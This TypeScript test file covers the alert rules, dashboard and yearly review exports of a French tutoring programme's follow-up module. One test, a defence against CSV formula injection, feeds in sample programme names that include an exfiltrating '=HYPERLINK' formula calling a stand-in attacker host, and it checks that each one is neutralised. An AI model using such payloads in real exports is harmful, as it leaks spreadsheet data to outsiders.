import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import Papa from 'papaparse';
import { runDueJobs } from '../../jobs/index.ts';
import { enqueue } from '../../jobs/registry.ts';
import { createWorld, type MeetingSpec, meeting, type World } from '../../test/factories.ts';
import { sessionCookie, setupTestServer } from '../../test/harness.ts';
import { followupSweep } from './sweep.ts';

const s = await setupTestServer();
const T0 = new Date('2026-11-16T09:00:00Z'); // 10:00 in Paris, outside quiet hours
const DAY = 86_400_000;
const at = (days: number) => new Date(T0.getTime() + days * DAY);

async function world() {
  s.clock.set(T0);
  const w = await createWorld(s.ctx);
  // The shared world carries an alert for the authorization matrix; these tests make their own.
  await s.db.deleteFrom('followup_alerts').where('programme_id', '=', w.programme.id).execute();
  return w;
}
const alertsOf = (pairingId: string, rule?: string) =>
  s.db
    .selectFrom('followup_alerts')
    .selectAll()
    .where('pairing_id', '=', pairingId)
    .$if(!!rule, (q) => q.where('rule', '=', rule as string))
    .execute();
const mailsTo = (email: string) => s.mailer.sent.filter((m) => m.to === email);
/**
 * Runs the jobs due at `now`, with a sweep of its own: tests revisit the same hours in fresh
 * worlds, where the hourly schedule (deduplicated per hour, as in production) already ran.
 */
async function sweep(now: Date) {
  await enqueue(s.db, followupSweep, {}, { runAt: now });
  return runDueJobs(s.ctx, { now });
}

/** Sessions last a day in tests: a request long after the world was made signs in again. */
async function call(
  method: 'GET' | 'POST' | 'PUT' | 'PATCH',
  url: string,
  as: { id: string },
  payload?: object,
) {
  const cookie = await sessionCookie(s.ctx, as.id);
  return s.app.inject({ method, url, headers: { cookie }, ...(payload ? { payload } : {}) });
}

/** A contact or an unanswered attempt, noted from the follow-up page into the contact log. */
async function log(w: World, as: { id: string }, body: Record<string, unknown>, now: Date) {
  s.clock.set(now);
  const res = await call('POST', `/api/programmes/${w.programme.id}/followup/activity`, as, body);
  assert.equal(res.statusCode, 201, res.body);
  return res.json() as { ids: string[] };
}

/**
 * A meeting of the tutor with their tutee, as the meetings pages record it once confirmed (unless
 * told otherwise), recorded at the start of the world.
 */
const hold = async (w: World, when: Date | null, opts: Omit<MeetingSpec, 'pairing' | 'at'> = {}) =>
  (await meeting(s.ctx, { pairing: w.pairing, at: when, createdAt: T0, ...opts })).id;

/** The tutor files the meeting's report through the meetings pages, the tutee present. */
async function fileReport(w: World, meetingId: string, now: Date) {
  s.clock.set(now);
  const res = await call('PUT', `/api/meetings/${meetingId}/report`, w.actors.tutor, {
    attendance: [{ userId: w.actors.tutee.id, status: 'present' }],
    durationMinutes: 60,
    content: { themes: 'Choix de stage' },
    file: true,
  });
  assert.equal(res.statusCode, 200, res.body);
}

describe('alert rules under an injected clock', () => {
  test('stuck pair: fires once at 21 days, tells the tutor once, escalates after a week, stops when the pair gets in touch', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await sweep(at(20));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 0, 'not before 21 days');
    await sweep(at(21));
    await sweep(at(21.1)); // the sweep runs again: nothing new
    const [alert, ...more] = await alertsOf(pairing, 'stuck');
    assert.ok(alert);
    assert.equal(more.length, 0);
    assert.equal(alert.level, 'tutor');
    const tutorMails = mailsTo(w.actors.tutor.email);
    assert.equal(tutorMails.length, 1, 'one e-mail to the tutor');
    assert.match(tutorMails[0]?.subject ?? '', /Suivi : Interne A/);
    assert.match(tutorMails[0]?.text ?? '', /aucune activité depuis 21 jours/);
    assert.equal(mailsTo(w.actors.coordinator.email).length, 0, 'the coordinator is not told yet');

    await sweep(at(27));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.level, 'tutor');
    await sweep(at(28));
    await sweep(at(28.2));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.level, 'coordinator');
    const coordinatorMails = mailsTo(w.actors.coordinator.email);
    assert.equal(coordinatorMails.length, 1, 'one e-mail for the day, listing both quiet pairs');
    assert.match(coordinatorMails[0]?.subject ?? '', /Suivi : 2 alertes/);
    assert.match(coordinatorMails[0]?.text ?? '', /Tuteur A et Interne A/);
    assert.match(coordinatorMails[0]?.text ?? '', /Tuteur B et Interne B/);

    // The tutor calls the tutee: the condition clears, the alert is resolved, nobody is told again.
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'phone' }, at(29));
    await sweep(at(29.1));
    const [resolved] = await alertsOf(pairing, 'stuck');
    assert.equal(resolved?.state, 'resolved');
    assert.equal(resolved?.live_key, null);
    await sweep(at(35));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 1, 'no new stuck alert after contact');
    assert.equal(mailsTo(w.actors.tutor.email).length, 1);
  });

  test('a pair arranging a meeting is not stuck: a poll sent on day 18 holds the alert off until day 39', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    // The tutor sends a poll on day 18 for a date still to be chosen (no start yet).
    await hold(w, null, { status: 'polling', createdAt: at(18) });
    await sweep(at(21));
    await sweep(at(38.5));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 0, 'the poll counts as activity');
    await sweep(at(39.1));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 1, '21 days after the poll with nothing since');
    // A cancelled meeting is no activity: another pair whose only poll was cancelled is stuck at 21 days.
    const v = await world();
    const other = v.pairing.id;
    await hold(v, at(25), { status: 'cancelled', createdAt: at(18) });
    await sweep(at(21.2));
    assert.equal((await alertsOf(other, 'stuck')).length, 1);
  });

  test('first meeting not held: fires at 6 weeks and clears with the first meeting', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'sms' }, at(10));
    await sweep(at(41));
    assert.equal((await alertsOf(pairing, 'first-meeting')).length, 0);
    await sweep(at(42));
    await sweep(at(42.5));
    assert.equal((await alertsOf(pairing, 'first-meeting')).length, 1);
    await sweep(at(49));
    assert.equal((await alertsOf(pairing, 'first-meeting'))[0]?.level, 'coordinator');
    // A meeting confirmed for later does not count until it takes place.
    const m = await hold(w, at(50));
    await sweep(at(49.9));
    assert.equal((await alertsOf(pairing, 'first-meeting'))[0]?.state, 'open');
    await fileReport(w, m, at(50.1));
    await sweep(at(50.1));
    assert.equal((await alertsOf(pairing, 'first-meeting'))[0]?.state, 'resolved');
  });

  test('no contact for the programme’s N days (120 for DES tutoring)', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    const m = await hold(w, at(5), { mode: 'video' });
    await fileReport(w, m, at(6));
    await sweep(at(124));
    assert.equal((await alertsOf(pairing, 'no-contact')).length, 0);
    await sweep(at(125));
    await sweep(at(125.5));
    const [a, ...more] = await alertsOf(pairing, 'no-contact');
    assert.equal(more.length, 0);
    assert.equal(JSON.parse(a?.detail ?? '{}').days, 120);
    await sweep(at(132));
    assert.equal((await alertsOf(pairing, 'no-contact'))[0]?.level, 'coordinator');
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'email' }, at(133));
    await sweep(at(133.1));
    assert.equal((await alertsOf(pairing, 'no-contact'))[0]?.state, 'resolved');
  });

  test('unreachable after three unanswered attempts; an answer clears it', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'email' }, at(1));
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'sms' }, at(3));
    await sweep(at(3.1));
    assert.equal((await alertsOf(pairing, 'unreachable')).length, 0);
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'call' }, at(5));
    await sweep(at(5.1));
    assert.equal((await alertsOf(pairing, 'unreachable')).length, 1);
    // One table of contacts: the meetings pages' contact log holds the attempts, marked unanswered.
    const logged = await s.db
      .selectFrom('contact_logs')
      .select(['channel', 'answered'])
      .where('tutee_id', '=', w.actors.tutee.id)
      .orderBy('happened_at')
      .execute();
    assert.deepEqual(logged, [
      { channel: 'email', answered: 0 },
      { channel: 'sms', answered: 0 },
      { channel: 'call', answered: 0 },
    ]);
    await sweep(at(12.1));
    assert.equal((await alertsOf(pairing, 'unreachable'))[0]?.level, 'coordinator');
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'phone' }, at(13));
    await sweep(at(13.1));
    const all = await alertsOf(pairing, 'unreachable');
    assert.deepEqual(
      all.map((a) => a.state),
      ['resolved'],
    );
  });

  test('meeting report missing a week after the meeting; filing it clears the alert', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    const m = await hold(w, at(2));
    await sweep(at(8));
    assert.equal((await alertsOf(pairing, 'report-missing')).length, 0);
    await sweep(at(9));
    assert.equal((await alertsOf(pairing, 'report-missing')).length, 1);
    await sweep(at(16));
    assert.equal(
      (await alertsOf(pairing, 'report-missing'))[0]?.level,
      'coordinator',
      'escalated after a week',
    );
    // A draft is not a report yet.
    s.clock.set(at(10));
    const draft = await call('PUT', `/api/meetings/${m}/report`, w.actors.tutor, {
      attendance: [{ userId: w.actors.tutee.id, status: 'present' }],
      durationMinutes: 60,
      content: {},
      file: false,
    });
    assert.equal(draft.statusCode, 200, draft.body);
    await sweep(at(16.5));
    assert.equal((await alertsOf(pairing, 'report-missing'))[0]?.state, 'open');
    await fileReport(w, m, at(17));
    await sweep(at(17.1));
    assert.equal((await alertsOf(pairing, 'report-missing'))[0]?.state, 'resolved');
  });

  test('below the meeting target past the middle of the period (academic year for DES tutoring)', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    // Keep the pair in touch so that only the target rule is in play.
    for (let d = 10; d < 200; d += 60)
      await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'phone' }, at(d));
    // The academic year runs from 1 November 2026; its middle is at the start of May 2027.
    await sweep(new Date('2027-04-29T09:00:00Z'));
    assert.equal((await alertsOf(pairing, 'below-target')).length, 0);
    await sweep(new Date('2027-05-03T09:00:00Z'));
    const [a] = await alertsOf(pairing, 'below-target');
    assert.deepEqual(JSON.parse(a?.detail ?? '{}'), { held: 0, expected: 1, minimum: 1, target: 2 });
    await sweep(new Date('2027-05-10T09:00:00Z'));
    assert.equal((await alertsOf(pairing, 'below-target'))[0]?.level, 'coordinator');
    // The pair meets: one meeting is what the first half of the year called for.
    const m = await hold(w, new Date('2027-05-11T09:00:00Z'));
    await fileReport(w, m, new Date('2027-05-11T12:00:00Z'));
    await sweep(new Date('2027-05-11T12:00:00Z'));
    assert.deepEqual(
      (await alertsOf(pairing, 'below-target')).map((x) => x.state),
      ['resolved'],
    );
  });

  test('snooze returns the alert to the coordinator when it ends; closing with a note stops it until the condition clears', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await sweep(at(21));
    const [alert] = await alertsOf(pairing, 'stuck');
    assert.ok(alert);
    s.clock.set(at(22));
    const tutorTry = await call('POST', `/api/followup/alerts/${alert.id}/snooze`, w.actors.tutor, {
      days: 3,
    });
    assert.equal(tutorTry.statusCode, 403, 'the tutor sees the alert but does not snooze it');
    const snoozed = await call('POST', `/api/followup/alerts/${alert.id}/snooze`, w.actors.coordinator, {
      days: 3,
    });
    assert.equal(snoozed.statusCode, 200, snoozed.body);
    assert.equal(snoozed.json().state, 'snoozed');
    const before = mailsTo(w.actors.coordinator.email).length;
    await sweep(at(24));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.state, 'snoozed');
    await sweep(at(25.1));
    const back = (await alertsOf(pairing, 'stuck'))[0];
    assert.equal(back?.state, 'open');
    assert.equal(back?.level, 'coordinator');
    assert.equal(mailsTo(w.actors.coordinator.email).length, before + 1);

    s.clock.set(at(26));
    const closed = await call('POST', `/api/followup/alerts/${alert.id}/close`, w.actors.coordinator, {
      note: 'Interne en stage hors subdivision, contact pris par le DMG.',
    });
    assert.equal(closed.statusCode, 200, closed.body);
    await sweep(at(30));
    const all = await alertsOf(pairing, 'stuck');
    assert.equal(all.length, 1, 'a closed alert does not fire again while the condition lasts');
    assert.equal(all[0]?.state, 'closed');

    const tutorView = await call('GET', `/api/programmes/${w.programme.id}/followup/alerts`, w.actors.tutor);
    assert.equal(tutorView.statusCode, 200);
    assert.ok(
      tutorView.json().alerts.every((a: { tutor: { id: string } }) => a.tutor.id === w.actors.tutor.id),
    );
  });

  test('a coordinator’s message reaches the tutor once, in-app and by e-mail', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await sweep(at(21));
    const [alert] = await alertsOf(pairing, 'stuck');
    s.clock.set(at(21.25)); // 16:00 in Paris: outside quiet hours
    const before = mailsTo(w.actors.tutor.email).length;
    const res = await call('POST', `/api/followup/alerts/${alert?.id}/message`, w.actors.coordinator, {
      text: 'Pouvez-vous me dire où en est le binôme ?',
    });
    assert.equal(res.statusCode, 202, res.body);
    await sweep(at(21.25));
    await sweep(at(21.3));
    assert.equal(mailsTo(w.actors.tutor.email).length, before + 1);
    const inbox = await call('GET', '/api/notifications', w.actors.tutor);
    assert.equal(inbox.statusCode, 200);
    assert.ok(
      inbox
        .json()
        .items.some((n: { body: string }) => n.body === 'Pouvez-vous me dire où en est le binôme ?'),
    );
  });
});

describe('alerts follow the pair’s records at once', () => {
  /** The jobs due at `now`, without the hourly sweep: what the change itself set in motion. */
  const jobsNow = (now: Date) => runDueJobs(s.ctx, { now, schedules: false });

  test('filing the missing report closes the alert without waiting for the hourly sweep', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    const m = await hold(w, at(2));
    await sweep(at(9));
    assert.equal((await alertsOf(pairing, 'report-missing'))[0]?.state, 'open');
    await fileReport(w, m, at(9.5));
    await jobsNow(at(9.5));
    assert.equal((await alertsOf(pairing, 'report-missing'))[0]?.state, 'resolved');
  });

  test('a third unanswered call opens “unreachable” at once and tells the tutor', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'call' }, at(1));
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'call' }, at(2));
    await sweep(at(2.1));
    assert.equal((await alertsOf(pairing, 'unreachable')).length, 0);
    const before = mailsTo(w.actors.tutor.email).length;
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'call' }, at(3));
    await jobsNow(at(3));
    assert.equal((await alertsOf(pairing, 'unreachable'))[0]?.state, 'open');
    assert.equal(mailsTo(w.actors.tutor.email).length, before + 1);
    // An answer closes it just as fast.
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'phone' }, at(3.01));
    await jobsNow(at(3.01));
    assert.equal((await alertsOf(pairing, 'unreachable'))[0]?.state, 'resolved');
  });

  test('ending the pair resolves its alerts at once', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await sweep(at(21));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.state, 'open');
    s.clock.set(at(21.1));
    const res = await call('POST', `/api/pairings/${pairing}/transition`, w.actors.coordinator, {
      to: 'ended',
      reason: 'Changement de ville',
    });
    assert.equal(res.statusCode, 200, res.body);
    await jobsNow(at(21.1));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.state, 'resolved');
  });

  test('three alerts on one quiet pair the same day: one e-mail to the tutor listing the three; a later one waits for the next day', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    await sweep(at(125));
    const rules = (await alertsOf(pairing)).map((a) => a.rule).sort();
    assert.deepEqual(rules, ['first-meeting', 'no-contact', 'stuck']);
    const mails = mailsTo(w.actors.tutor.email);
    assert.equal(mails.length, 1, 'one e-mail for the day');
    const text = mails[0]?.text ?? '';
    assert.match(text, /aucune activité depuis 125 jours/);
    assert.match(text, /première rencontre pas encore tenue/);
    assert.match(text, /aucun contact depuis 125 jours/);

    // A fourth alert the same day: in-app at once, no second e-mail before the next day.
    for (const h of [0.01, 0.02, 0.03])
      await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'call' }, at(125 + h));
    await jobsNow(at(125.03));
    assert.equal((await alertsOf(pairing, 'unreachable'))[0]?.state, 'open');
    assert.equal(mailsTo(w.actors.tutor.email).length, 1);
    await jobsNow(at(126));
    const next = mailsTo(w.actors.tutor.email);
    assert.equal(next.length, 2);
    assert.match(next[1]?.text ?? '', /3 tentatives de contact sans réponse/);
    assert.doesNotMatch(next[1]?.text ?? '', /première rencontre/);
  });
});

describe('dashboard and yearly review', () => {
  test('the coordinator sees states, meetings per month, last contacts, alerts and tutor load; others may not', async () => {
    const w = await world();
    const m = await hold(w, at(3));
    await fileReport(w, m, at(3.1));
    // A meeting cancelled and one still to come are not meetings held.
    await hold(w, at(4), { status: 'cancelled' });
    await hold(w, at(45));
    await sweep(at(40));
    s.clock.set(at(40));
    const res = await call(
      'GET',
      `/api/programmes/${w.programme.id}/followup/dashboard`,
      w.actors.coordinator,
    );
    assert.equal(res.statusCode, 200, res.body);
    const d = res.json();
    assert.equal(d.pairs.byState.active, 2);
    assert.equal(d.meetingsByMonth.length, 12);
    assert.equal(d.meetingsByMonth.find((x: { month: string }) => x.month === '2026-11')?.held, 1);
    assert.deepEqual(
      d.lastContact.filter((b: { count: number }) => b.count > 0),
      [
        { bucket: '31-60', count: 1 },
        { bucket: 'never', count: 1 },
      ],
    );
    assert.ok(
      d.alerts.list.some(
        (a: { rule: string; tutee: { name: string } }) => a.rule === 'stuck' && a.tutee.name === 'Interne B',
      ),
    );
    assert.deepEqual(
      d.tutorLoad.map((t: { tutor: { name: string }; active: number; capacity: number }) => [
        t.tutor.name,
        t.active,
        t.capacity,
      ]),
      [
        ['Tuteur B', 1, 4],
        ['Tuteur A', 1, 4],
      ],
    );
    for (const who of ['tutor', 'tutee', 'expert'] as const) {
      const r = await call('GET', `/api/programmes/${w.programme.id}/followup/dashboard`, w.actors[who]);
      assert.equal(r.statusCode, 403, who);
    }
  });

  test('the yearly review exports as CSV and as a PDF that renders, without names or notes', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    for (const d of [3, 60, 120]) {
      const m = await hold(w, at(d), { mode: 'video' });
      await fileReport(w, m, at(d + 0.1));
    }
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'contact', channel: 'sms' }, at(130));
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'email' }, at(131));
    await sweep(at(21));
    const [alert] = await s.db
      .selectFrom('followup_alerts')
      .select('id')
      .where('programme_id', '=', w.programme.id)
      .execute();
    s.clock.set(at(22));
    await call('POST', `/api/followup/alerts/${alert?.id}/close`, w.actors.coordinator, {
      note: 'Note confidentielle de la coordination',
    });
    s.clock.set(at(200));
    const json = await call(
      'GET',
      `/api/programmes/${w.programme.id}/followup/review?year=2026`,
      w.actors.coordinator,
    );
    assert.equal(json.statusCode, 200, json.body);
    const r = json.json();
    assert.equal(r.participation.pairs, 2);
    assert.equal(r.participation.pairsWithMeeting, 1);
    assert.equal(r.meetings.total, 3);
    assert.equal(r.meetings.perPairMean, 1.5);
    assert.equal(r.meetings.reports, 3);
    assert.deepEqual(r.channels.meetingsAndContacts, { video: 3, sms: 1 });
    assert.equal(r.channels.unansweredAttempts, 1);
    assert.equal(r.endOfYearReviews.shown, false);

    const csv = await call(
      'GET',
      `/api/programmes/${w.programme.id}/followup/review.csv?year=2026`,
      w.actors.coordinator,
    );
    assert.equal(csv.statusCode, 200);
    assert.match(csv.headers['content-type'] as string, /text\/csv/);
    assert.match(csv.body, /"Rencontres";"Total";"3"/);
    assert.doesNotMatch(csv.body, /Interne A|Tuteur A|Note confidentielle/);

    const pdf = await call(
      'GET',
      `/api/programmes/${w.programme.id}/followup/review.pdf?year=2026`,
      w.actors.coordinator,
    );
    assert.equal(pdf.statusCode, 200);
    assert.equal(pdf.rawPayload.subarray(0, 5).toString(), '%PDF-');
    const dir = mkdtempSync(join(tmpdir(), 'review-'));
    try {
      writeFileSync(join(dir, 'bilan.pdf'), pdf.rawPayload);
      execFileSync('pdftoppm', ['-r', '40', '-png', join(dir, 'bilan.pdf'), join(dir, 'page')]);
      assert.ok(
        readdirSync(dir).some((f) => f.endsWith('.png')),
        'pdftoppm rendered a page',
      );
      const text = execFileSync('pdftotext', [join(dir, 'bilan.pdf'), '-']).toString();
      assert.match(text, /Bilan annuel du programme/);
      assert.doesNotMatch(text, /Interne A|Tuteur A|Note confidentielle/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    const audited = await s.db
      .selectFrom('audit_log')
      .select('action')
      .where('action', '=', 'followup.review.exported')
      .execute();
    assert.ok(audited.length >= 2);

    const tutor = await call('GET', `/api/programmes/${w.programme.id}/followup/review.pdf`, w.actors.tutor);
    assert.equal(tutor.statusCode, 403);
  });

  test('the CSV review opens in a spreadsheet as text: a programme named like a formula is not run', async () => {
    const w = await world();
    const names = [
      '=HYPERLINK("https://attaquant.example/?d="&A1,"Bilan")',
      '+SUM(1,1)',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '=1+1\nsuite',
      '\uFF1D1+1',
    ];
    for (const name of names) {
      await s.db.updateTable('programmes').set({ name }).where('id', '=', w.programme.id).execute();
      const res = await call(
        'GET',
        `/api/programmes/${w.programme.id}/followup/review.csv?year=2026`,
        w.actors.coordinator,
      );
      assert.equal(res.statusCode, 200, res.body);
      const rows = Papa.parse<string[]>(res.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
      for (const cell of rows.flat()) {
        assert.doesNotMatch(
          cell,
          /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/,
          `${JSON.stringify(name)}: a cell starts a formula`,
        );
      }
      // The name is still there, word for word, behind the quote that makes it text.
      assert.ok(rows.flat().includes(`'${name}`), JSON.stringify(name));
    }
  });

  test('bad input: a tutor cannot log activity for another tutor’s pair, nor in the future; nothing is written', async () => {
    const w = await world();
    const other = w.otherPairing.id;
    const count = async () => (await s.db.selectFrom('contact_logs').select('id').execute()).length;
    const before = await count();
    const res = await call('POST', `/api/programmes/${w.programme.id}/followup/activity`, w.actors.tutor, {
      pairingId: other,
      kind: 'contact',
    });
    assert.equal(res.statusCode, 404);
    const future = await call('POST', `/api/programmes/${w.programme.id}/followup/activity`, w.actors.tutor, {
      pairingId: w.pairing.id,
      kind: 'contact',
      at: at(3).toISOString(),
    });
    assert.equal(future.statusCode, 400);
    assert.equal(future.json().error.code, 'activity_in_future');
    // Meetings are recorded in the meetings pages, not noted here.
    const meeting = await call(
      'POST',
      `/api/programmes/${w.programme.id}/followup/activity`,
      w.actors.tutor,
      { pairingId: w.pairing.id, kind: 'meeting' },
    );
    assert.equal(meeting.statusCode, 400);
    assert.equal(await count(), before);
  });
});

describe('one source of truth: meetings tables, contact log, programme rules', () => {
  test('a group meeting counts for every tutee present, not for one who was absent', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    const other = w.otherPairing.id;
    await s.db
      .updateTable('pairings')
      .set({ group_key: 'groupe-1' })
      .where('id', 'in', [pairing, other])
      .execute();
    await hold(w, at(10), {
      participants: [
        { id: w.actors.tutee.id, attendance: 'present' },
        { id: w.actors.otherTutee.id, attendance: 'absent' },
      ],
    });
    await sweep(at(42));
    assert.equal((await alertsOf(pairing, 'first-meeting')).length, 0, 'the tutee who came has met');
    assert.equal((await alertsOf(other, 'first-meeting')).length, 1, 'the absent tutee has not');
    // The next group meeting, its report not written yet: both were there as far as anyone knows.
    await hold(w, at(43), { participants: [{ id: w.actors.tutee.id }, { id: w.actors.otherTutee.id }] });
    await sweep(at(43.1));
    assert.equal((await alertsOf(other, 'first-meeting'))[0]?.state, 'resolved');
    s.clock.set(at(44));
    const d = (
      await call('GET', `/api/programmes/${w.programme.id}/followup/dashboard`, w.actors.coordinator)
    ).json();
    assert.equal(
      d.meetingsByMonth.reduce((n: number, m: { held: number }) => n + m.held, 0),
      3,
      'pair-meetings: the first group meeting once, the second twice',
    );
  });

  test('thresholds are programme rules: a shorter stuck delay and escalation fire earlier', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    const programme = (await call('GET', `/api/programmes/${w.programme.id}`, w.actors.coordinator)).json();
    assert.deepEqual(programme.rules.alerts, {
      unreachableAttempts: 3,
      stuckDays: 21,
      firstMeetingWeeks: 6,
      reportMissingDays: 7,
      escalateAfterDays: 7,
    });
    const res = await call('PATCH', `/api/programmes/${w.programme.id}`, w.actors.coordinator, {
      rules: {
        ...programme.rules,
        alerts: { ...programme.rules.alerts, stuckDays: 10, escalateAfterDays: 2, unreachableAttempts: 1 },
      },
    });
    assert.equal(res.statusCode, 200, res.body);
    await sweep(at(9));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 0);
    await sweep(at(10));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.level, 'tutor');
    await sweep(at(11.9));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.level, 'tutor');
    await sweep(at(12));
    assert.equal((await alertsOf(pairing, 'stuck'))[0]?.level, 'coordinator');
    await log(w, w.actors.tutor, { pairingId: pairing, kind: 'attempt', channel: 'sms' }, at(13));
    await sweep(at(13.1));
    assert.equal((await alertsOf(pairing, 'unreachable')).length, 1, 'one unanswered attempt is enough here');

    const bad = await call('PATCH', `/api/programmes/${w.programme.id}`, w.actors.coordinator, {
      rules: { ...programme.rules, alerts: { ...programme.rules.alerts, stuckDays: 0 } },
    });
    assert.equal(bad.statusCode, 400);
  });

  test('rules saved before thresholds existed read as the defaults', async () => {
    const w = await world();
    const pairing = w.pairing.id;
    const { alerts: _, ...old } = JSON.parse(
      (
        await s.db
          .selectFrom('programmes')
          .select('rules')
          .where('id', '=', w.programme.id)
          .executeTakeFirstOrThrow()
      ).rules,
    );
    await s.db
      .updateTable('programmes')
      .set({ rules: JSON.stringify(old) })
      .where('id', '=', w.programme.id)
      .execute();
    await sweep(at(20));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 0);
    await sweep(at(21));
    assert.equal((await alertsOf(pairing, 'stuck')).length, 1);
  });

  test('the dashboard counts a meeting in the month of the organisation’s zone', async () => {
    const w = await world();
    // 30 November 23:30 UTC is already 1 December in Paris.
    await hold(w, new Date('2026-11-30T23:30:00Z'));
    await hold(w, new Date('2026-11-30T22:30:00Z'));
    s.clock.set(new Date('2026-12-10T09:00:00Z'));
    const d = (
      await call('GET', `/api/programmes/${w.programme.id}/followup/dashboard`, w.actors.coordinator)
    ).json();
    const month = (m: string) => d.meetingsByMonth.find((x: { month: string }) => x.month === m)?.held;
    assert.equal(month('2026-11'), 1);
    assert.equal(month('2026-12'), 1);
    assert.equal(d.meetingsByMonth.at(-1).month, '2026-12');
  });
});
